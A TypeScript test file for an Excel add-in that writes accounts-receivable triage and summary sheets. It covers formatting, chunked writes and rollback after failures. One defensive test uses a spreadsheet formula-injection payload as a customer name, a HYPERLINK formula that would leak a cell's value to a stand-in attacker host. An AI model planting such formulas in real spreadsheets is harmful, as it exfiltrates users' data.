// Writing the triage: the result sheet (values, an Excel table, colours per warning level, number formats,
// frozen header, sized columns), the summary sheet with its chart, unique names on every run, text that
// stays text, chunks under the ceiling, and a failure or an abort that leaves the workbook as it was.
import { describe, expect, it } from "vitest";
import { FakeWorkbook } from "../support/fake-excel/index.js";
import { ledgerSheetData, writeTriageSheets } from "../../src/excel-io/write.js";
import { serialFromCivil, summarise, triageLedger } from "../../src/core/index.js";
import { PaneError } from "../../src/excel-io/errors.js";
import { LEVEL_FILLS } from "../../src/result/style.js";
import { ledgerWorkbook, triageOf } from "./support.js";

async function paneError(promise: Promise<unknown>): Promise<PaneError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(PaneError);
  return error as PaneError;
}

const column = (headers: readonly string[], name: string) => {
  const c = headers.indexOf(name);
  if (c < 0) throw new Error(`no column ${name}`);
  return c;
};

describe("writeTriageSheets: the result sheet", () => {
  it("writes one row per input row as an Excel table, coloured by level, formatted, header frozen", async () => {
    const wb = ledgerWorkbook(40);
    const data = await triageOf(wb);
    const report = await writeTriageSheets(wb.context(), data);
    expect(report).toMatchObject({
      resultSheet: "Triage",
      summarySheet: "Triage summary",
      tableName: "ARTriage",
      rows: 40,
      resultAddress: "Triage!A1:Y41",
    });
    const sheet = wb.sheet("Triage");
    const values = sheet.values();
    expect(values[0]).toEqual(data.headers);
    expect(values.slice(1)).toEqual(data.rows);
    const h = data.headers;
    expect(values[1][column(h, "source row")]).toBe(2);
    expect(values[4][column(h, "warning level")]).toBe(3);

    const table = wb.tables.find((t) => t.name === "ARTriage")!;
    expect(table.sheet).toBe(sheet);
    expect(sheet.address(table.rect)).toBe("Triage!A1:Y41");
    expect(table.showBandedRows).toBe(false);

    // Colours: one per level, on every cell of the row; none for level 0.
    for (let i = 0; i < 40; i++) {
      const level = data.levels[i];
      const expected = level === 1 || level === 2 || level === 3 ? LEVEL_FILLS[level] : null;
      expect(sheet.fillAt(i + 1, 0)).toBe(expected);
      expect(sheet.fillAt(i + 1, 24)).toBe(expected);
    }
    expect(data.levels.slice(0, 4)).toEqual([0, 1, 2, 3]);
    expect(sheet.fillAt(0, 0)).toBeNull(); // the header
    expect(sheet.conditionalFormats).toHaveLength(4); // four requests, whatever the number of rows

    expect(sheet.numberFormatAt(5, column(h, "balance"))).toBe("#,##0.00");
    expect(sheet.numberFormatAt(5, column(h, "pay within 10 days (90%)"))).toBe("#,##0.00");
    expect(sheet.numberFormatAt(5, column(h, "days past due"))).toBe("General");
    expect(sheet.frozenRows).toBe(1);
    expect(sheet.columnWidth(column(h, "reasons"))).toBeLessThanOrEqual(60 * 5.25 + 1);
    expect(sheet.columnWidth(column(h, "customer"))).toBeGreaterThan(48);
    expect(wb.active?.name).toBe("Triage summary");
  });

  it("colours by fills per run of rows when asked, with the same colours", async () => {
    const wb = ledgerWorkbook(12);
    const data = await triageOf(wb);
    await writeTriageSheets(wb.context(), data, { colouring: "fills", activate: "result" });
    const sheet = wb.sheet("Triage");
    expect(sheet.conditionalFormats).toHaveLength(0);
    for (let i = 0; i < 12; i++) {
      const level = data.levels[i];
      expect(sheet.fillAt(i + 1, 3)).toBe(level === 1 || level === 2 || level === 3 ? LEVEL_FILLS[level] : null);
    }
    expect(wb.active?.name).toBe("Triage");
  });

  it("shows a row with a problem as not triaged: no level fill, italic grey, with conditional formats and with fills", async () => {
    // Customer 5 repeats customer 1: a duplicate, a row with a problem and no level.
    for (const colouring of ["conditional", "fills"] as const) {
      const wb = ledgerWorkbook(8, (i) => (i === 5 ? "Customer 1" : `Customer ${i}`));
      const data = await triageOf(wb);
      await writeTriageSheets(wb.context(), data, { colouring });
      const sheet = wb.sheet("Triage");
      const h = data.headers;
      const row = 1 + 5;
      expect(sheet.value(row, column(h, "status"))).toBe("problem");
      expect(data.levels[5]).toBeNull();
      for (const c of [0, column(h, "warning level"), h.length - 1]) {
        expect(sheet.fillAt(row, c)).toBeNull();
        expect(sheet.fontAt(row, c)).toEqual({ color: "#595959", italic: true });
      }
      // A triaged row keeps its level's fill and the plain font.
      expect(sheet.fillAt(4, 0)).toBe(LEVEL_FILLS[3]);
      expect(sheet.fontAt(4, 0)).toEqual({ color: null, italic: false });
      expect(sheet.fontAt(1, 0)).toEqual({ color: null, italic: false }); // level 0
    }
  });

  it("never touches the source sheet, and picks fresh names on every run", async () => {
    const wb = ledgerWorkbook(10);
    const source = wb.sheet("Debtors");
    const before = source.values();
    wb.addName("ARTriage2");
    const data = await triageOf(wb);
    await writeTriageSheets(wb.context(), data);
    const second = await writeTriageSheets(wb.context(), data);
    expect(second).toMatchObject({ resultSheet: "Triage (2)", summarySheet: "Triage summary (2)", tableName: "ARTriage3" });
    expect(wb.sheets.map((s) => s.name)).toEqual(["Debtors", "Triage", "Triage summary", "Triage (2)", "Triage summary (2)"]);
    expect(source.values()).toEqual(before);
    expect(source.mutations).toBe(0);
  });

  it("names the sheets in Chinese for a Chinese pane", async () => {
    const wb = ledgerWorkbook(5);
    const data = await triageOf(wb, "zh");
    const first = await writeTriageSheets(wb.context(), data);
    const second = await writeTriageSheets(wb.context(), data);
    expect([first.resultSheet, first.summarySheet, second.resultSheet, second.summarySheet]).toEqual([
      "分诊结果",
      "分诊汇总",
      "分诊结果 (2)",
      "分诊汇总 (2)",
    ]);
    expect(wb.sheet("分诊结果").values("A1:D1")).toEqual([["源行号", "客户", "余额", "状态"]]);
    expect(wb.sheet("分诊汇总").value(0, 0)).toBe("应收账款组合分诊");
  });
});

describe("writeTriageSheets: an empty portfolio", () => {
  it("writes the header as a table with an empty row, and a summary without problems", async () => {
    const wb = ledgerWorkbook(3);
    const data = await triageOf(wb);
    const empty = { ...data, rows: [], levels: [], summary: { ...data.summary, rows: 0, ok: 0, problemRows: [] } };
    const report = await writeTriageSheets(wb.context(), empty);
    expect(report.rows).toBe(0);
    const sheet = wb.sheet("Triage");
    expect(sheet.values("A1:B2")).toEqual([
      ["source row", "customer"],
      ["", ""],
    ]);
    expect(sheet.tables).toHaveLength(1);
    const summary = wb.sheet("Triage summary").values();
    expect(summary.at(-2)![0]).toBe("rows with problems (0)");
    expect(summary.at(-1)![0]).toBe("none");
  });
});

describe("writeTriageSheets: the summary sheet", () => {
  it("shows the as-of date, the source, counts and amounts, the rows with problems and a chart", async () => {
    const wb = ledgerWorkbook(8, (i) => (i === 3 ? "Customer 1" : `Customer ${i}`));
    const data = await triageOf(wb);
    await writeTriageSheets(wb.context(), data, { problemRowLimit: 1 });
    const sheet = wb.sheet("Triage summary");
    const values = sheet.values();
    const row = (label: string) => values.find((r) => r[0] === label)!;
    expect(row("as of")[1]).toBe(data.asOf);
    expect(sheet.numberFormatAt(values.indexOf(row("as of")), 1)).toBe("yyyy-mm-dd");
    expect(row("source")[1]).toBe("Debtors!A1:F9");
    expect(row("rows")[1]).toBe(8);
    expect(row("triaged balance")[1]).toBe(data.summary.amount);
    expect(row("level 3")).toEqual(["level 3", data.summary.byLevel[3].amount, data.summary.byLevel[3].count, ""]);
    expect(row("rows with problems (1)")).toBeDefined();
    expect(values.find((r) => r[0] === 5)).toEqual([5, "Customer 1", "customer: duplicate of row 3", 1]);
    expect(sheet.isBold(0, 0)).toBe(true);

    expect(sheet.charts).toHaveLength(1);
    const chart = sheet.charts[0];
    expect(chart.type).toBe("ColumnClustered");
    expect(chart.title).toBe("Balance by warning level");
    expect(chart.data()).toEqual({
      categories: data.summary.byLevel.map((g) => g.en),
      series: [{ name: "balance", values: data.summary.byLevel.map((g) => g.amount) }],
    });
  });

  it("caps the list of rows with problems and says how many more", async () => {
    const wb = ledgerWorkbook(10, () => "Same customer");
    const data = await triageOf(wb);
    expect(data.summary.problemRows).toHaveLength(9);
    await writeTriageSheets(wb.context(), data, { problemRowLimit: 3 });
    const values = wb.sheet("Triage summary").values();
    const listed = values.filter((r) => r[1] === "Same customer");
    expect(listed).toHaveLength(3);
    expect(values.at(-1)![0]).toBe("... and 6 more rows with problems: filter the status column of the sheet Triage");
  });
});

describe("writeTriageSheets: text stays text", () => {
  it("writes a customer called =HYPERLINK(...) (and other formula-like names) as text, never a formula", async () => {
    const names = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      "+SUM(1,2)",
      "-10",
      "@cmd",
      "007 Holdings",
      "2025-07-31",
      "'quoted",
    ];
    const wb = ledgerWorkbook(names.length, (i) => names[i]);
    const data = await triageOf(wb);
    await writeTriageSheets(wb.context(), data);
    const sheet = wb.sheet("Triage");
    const c = column(data.headers, "customer");
    // the core reads the customer as written (trimmed) and the result shows it as it was
    expect(
      sheet
        .values()
        .slice(1)
        .map((r) => r[c]),
    ).toEqual(names.map((n) => data.rows[names.indexOf(n)][c]));
    expect(sheet.value(1, c)).toBe(names[0]);
    for (let r = 0; r <= names.length; r++) for (let col = 0; col < data.headers.length; col++) expect(sheet.formula(r, col)).toBeNull();
    const summary = wb.sheet("Triage summary");
    const all = summary.values();
    for (let r = 0; r < all.length; r++) for (let col = 0; col < 4; col++) expect(summary.formula(r, col)).toBeNull();
  });
});

describe("writeTriageSheets: chunks", () => {
  it("writes 30,000 rows in chunks under a small ceiling, each request under it, syncs growing with chunks", async () => {
    const wb = ledgerWorkbook(30_000, undefined, { payloadLimit: 2_000_000 });
    const data = await triageOf(wb);
    wb.syncs.length = 0;
    const progress: number[] = [];
    const report = await writeTriageSheets(wb.context(), data, {
      maxRequestBytes: 1_500_000,
      chunkRows: 100,
      onProgress: (done) => progress.push(done),
    });
    expect(report.chunks).toBeGreaterThanOrEqual(300);
    expect(report.syncs).toBe(wb.syncs.length);
    expect(report.syncs).toBeLessThan(report.chunks / 3);
    expect(Math.max(...wb.syncs.map((s) => s.requestBytes))).toBeLessThanOrEqual(1_500_000);
    expect(report.maxRequestBytes).toBeLessThanOrEqual(1_500_000);
    const sheet = wb.sheet("Triage");
    expect(sheet.value(30_000, 0)).toBe(30_001);
    expect(sheet.values("A1:Y30001").slice(1)).toEqual(data.rows);
    expect(progress.at(-1)).toBe(30_000);
    expect(wb.syncs.reduce((n, s) => n + s.cellsWritten, 0)).toBeGreaterThanOrEqual(30_001 * 25);
  });

  it("writes an item list's 20,000 item rows in chunks under the ceiling too, after the customer sheet, progress over both", async () => {
    const asOf = serialFromCivil(2025, 7, 31);
    // 20,000 invoices of 200 customers (100 each), due on one of 40 days before the as-of date, and the export's total.
    const rows: unknown[][] = Array.from({ length: 20_000 }, (_, i) => [`Customer ${i % 200}`, `INV-${i}`, asOf - (i % 40), 100 + (i % 7)]);
    const total = rows.reduce((sum, r) => sum + (r[3] as number), 0);
    rows.push(["Total", "", "", total]);
    const ledger = triageLedger(rows, { customer: 0, document: 1, dueDate: 2, balance: 3 }, { asOf });
    const summary = summarise(ledger.output.records, ledger.output.policy);
    const source = {
      sheetName: "Export",
      address: "Export!A1:D20002",
      headerRow: 1,
      firstColumn: 0,
      headers: [],
      rowCount: 20_001,
      columnCount: 4,
    };
    const data = ledgerSheetData(ledger, summary, source, "en", { notes: ["reconciliation: a line"] });
    const wb = new FakeWorkbook({ payloadLimit: 1_000_000 });
    wb.addSheet("Export", [["x"]]);
    const progress: [number, number][] = [];
    const report = await writeTriageSheets(wb.context(), data, {
      maxRequestBytes: 800_000,
      chunkRows: 1000,
      onProgress: (done, all) => progress.push([done, all]),
    });
    expect([report.resultSheet, report.itemSheet, report.summarySheet, report.rows, report.itemRows]).toEqual([
      "Triage",
      "Items",
      "Triage summary",
      200,
      20_001,
    ]);
    expect(Math.max(...wb.syncs.map((s) => s.requestBytes))).toBeLessThanOrEqual(800_000);
    expect(report.syncs).toBeGreaterThan(5);
    const items = wb.sheet("Items");
    expect(items.values()).toHaveLength(20_002);
    expect(items.values().slice(1)).toEqual(data.items?.rows);
    expect(items.tables.map((t) => t.name)).toEqual(["ARItems"]);
    expect(progress.every(([, all]) => all === 20_201)).toBe(true);
    expect(progress.at(-1)).toEqual([20_201, 20_201]);
    expect(
      wb
        .sheet("Triage summary")
        .values()
        .map((r) => r[0]),
    ).toContain("reconciliation: a line");
    expect(summary.amount).toBe(total);
  });

  it("refuses more rows than a worksheet holds before writing anything", async () => {
    const wb = ledgerWorkbook(2);
    const data = await triageOf(wb);
    const rows = new Array(1_048_576);
    const error = await paneError(writeTriageSheets(wb.context(), { ...data, rows, levels: new Array(rows.length).fill(null) }));
    expect(error.code).toBe("too-many-rows");
    expect(wb.sheets).toHaveLength(1);
  });
});

describe("writeTriageSheets: failures leave the workbook as it was", () => {
  it("removes the partial sheets when a sync fails half-way, and a rerun succeeds", async () => {
    const wb = ledgerWorkbook(5000);
    const source = wb.sheet("Debtors");
    const before = source.values();
    const data = await triageOf(wb);
    wb.failSync(3, { afterOperations: 2 });
    const error = await paneError(writeTriageSheets(wb.context(), data, { chunkRows: 500, maxRequestBytes: 300_000 }));
    expect(error.code).toBe("write-failed");
    expect(error.en).toMatch(/partial sheets \(Triage\) were removed/);
    expect(error.zh).toMatch(/已删除未完成的工作表/);
    expect(wb.sheets.map((s) => s.name)).toEqual(["Debtors"]);
    expect(wb.tables.filter((t) => !t.deleted)).toHaveLength(0);
    expect(source.values()).toEqual(before);
    expect(source.mutations).toBe(0);

    const rerun = await writeTriageSheets(wb.context(), data);
    expect(rerun.resultSheet).toBe("Triage");
    expect(wb.sheet("Triage").values().length).toBe(5001);
  });

  it("fails in the summary too: both sheets go", async () => {
    const probe = ledgerWorkbook(20);
    const { syncs } = await writeTriageSheets(probe.context(), await triageOf(probe));
    const wb = ledgerWorkbook(20);
    const data = await triageOf(wb);
    // The last sync writes the summary: it fails after creating the summary sheet and writing its values.
    wb.failSync(syncs, { afterOperations: 3 });
    const error = await paneError(writeTriageSheets(wb.context(), data));
    expect(error.en).toMatch(/partial sheets \(Triage, Triage summary\) were removed/);
    expect(wb.sheets.map((s) => s.name)).toEqual(["Debtors"]);
  });

  it("renames the partial sheet (incomplete) when it cannot be deleted; a rerun picks a fresh name", async () => {
    const wb = ledgerWorkbook(3000);
    const data = await triageOf(wb);
    wb.failSync(3);
    wb.failOperation("Worksheet.delete");
    const error = await paneError(writeTriageSheets(wb.context(), data, { chunkRows: 500, maxRequestBytes: 200_000 }));
    expect(error.en).toMatch(/renamed: Triage \(incomplete\)/);
    expect(wb.sheets.map((s) => s.name)).toEqual(["Debtors", "Triage (incomplete)"]);
    const rerun = await writeTriageSheets(wb.context(), data);
    expect(rerun.resultSheet).toBe("Triage");
    wb.select("Debtors!A1");
    const zh = await triageOf(wb, "zh");
    wb.failSync(2, { afterOperations: 1 });
    const zhError = await paneError(writeTriageSheets(wb.context(), zh));
    expect(zhError.zh).toMatch(/分诊结果（未完成）/);
  });

  it("stops when the signal fires, removing what it wrote", async () => {
    const wb = ledgerWorkbook(20_000);
    const data = await triageOf(wb);
    const controller = new AbortController();
    const error = await paneError(
      writeTriageSheets(wb.context(), data, {
        chunkRows: 1000,
        maxRequestBytes: 400_000,
        signal: controller.signal,
        onProgress: (done) => done > 0 && controller.abort(),
      }),
    );
    expect(error.name).toBe("AbortError");
    expect(error.code).toBe("aborted");
    expect(error.en).toMatch(/cancelled.*removed/);
    expect(wb.sheets.map((s) => s.name)).toEqual(["Debtors"]);
    expect(await writeTriageSheets(wb.context(), data)).toMatchObject({ resultSheet: "Triage" });
  });

  it("reports a failure to read the sheet names without writing anything", async () => {
    const wb = ledgerWorkbook(3);
    const data = await triageOf(wb);
    wb.failSync(1);
    const error = await paneError(writeTriageSheets(wb.context(), data));
    expect(error.code).toBe("write-failed");
    expect(wb.sheets).toHaveLength(1);
    expect(wb instanceof FakeWorkbook).toBe(true);
  });
});
